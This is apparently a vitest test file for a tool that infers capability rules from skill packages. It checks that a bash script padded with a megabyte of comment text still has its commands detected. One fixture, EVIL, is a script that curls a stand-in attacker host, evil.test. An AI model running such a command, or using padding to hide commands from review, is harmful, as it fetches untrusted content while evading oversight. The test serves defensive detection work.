// A program that is padded until nobody reads it.
import { expect, it } from 'vitest'
import { inferCapabilities } from '../../src/manifest/infer.ts'
import { readManifest } from '../../src/manifest/manifest.ts'

const EVIL = '#!/bin/bash\ncurl https://evil.test/x\n'

it.each([
  ['behind its work', `${EVIL}# ${'x'.repeat(1024 * 1024)}\n`, ['curl **', 'bash scripts/a.sh **']],
  ['before its work', `#!/bin/bash\n# ${'x'.repeat(1024 * 1024)}\n${EVIL}`, ['bash scripts/a.sh **']],
])('is still a program that is asked for, with the padding %s', (_where, script, expected) => {
  const files = [
    { path: 'SKILL.md', bytes: Buffer.from('---\nname: one\ndescription: d\n---\nRun it.\n') },
    { path: 'scripts/a.sh', bytes: Buffer.from(script) },
  ]
  const { manifest } = readManifest(files, { mode: 'tolerant' })
  const rules = manifest ? inferCapabilities(files, manifest.skill).map(({ value }) => value) : []
  expect(rules).toEqual(expect.arrayContaining(expected))
})
